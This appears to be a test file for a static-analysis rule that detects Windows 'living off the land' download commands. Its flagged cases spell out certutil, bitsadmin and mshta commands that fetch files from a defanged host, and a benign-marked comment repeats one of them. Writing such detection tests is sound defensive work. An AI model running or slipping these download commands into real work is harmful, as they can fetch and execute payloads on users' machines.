# Test for lolbin-download (defanged: example.invalid).
import os
import subprocess

# ruleid: lolbin-download
os.system("certutil -urlcache -split -f http://example.invalid/a.txt %TEMP%\\a.txt")
# ruleid: lolbin-download
subprocess.call('bitsadmin /transfer job /download /priority high http://example.invalid/a "%TEMP%\\a"')
# ruleid: lolbin-download
subprocess.Popen(["mshta", "http://example.invalid/a.hta"])
# ruleid: lolbin-download
subprocess.run(["certutil.exe", "-decode", "in.b64", "out.bin"])

# ok: lolbin-download
subprocess.run(["certutil", "-hashfile", "dist.zip", "SHA256"])
# ok: lolbin-download
subprocess.run(["rundll32", "printui.dll,PrintUIEntry", "/?"])
# ok: lolbin-download
note = "certutil can hash files; bitsadmin is deprecated."
# ok: lolbin-download
# Troubleshooting: run `certutil -urlcache -split -f URL` by hand to check the proxy.
